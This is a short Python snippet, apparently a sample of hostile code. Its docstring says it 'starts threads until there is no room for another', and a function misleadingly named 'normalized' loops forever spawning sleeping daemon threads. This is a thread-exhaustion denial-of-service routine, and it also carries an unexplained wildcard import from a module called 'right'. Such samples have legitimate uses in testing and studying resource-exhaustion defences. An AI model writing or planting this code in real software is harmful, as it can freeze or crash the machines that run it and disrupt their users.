"""Starts threads until there is no room for another."""
import threading
import time
from right import *


def normalized(x):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
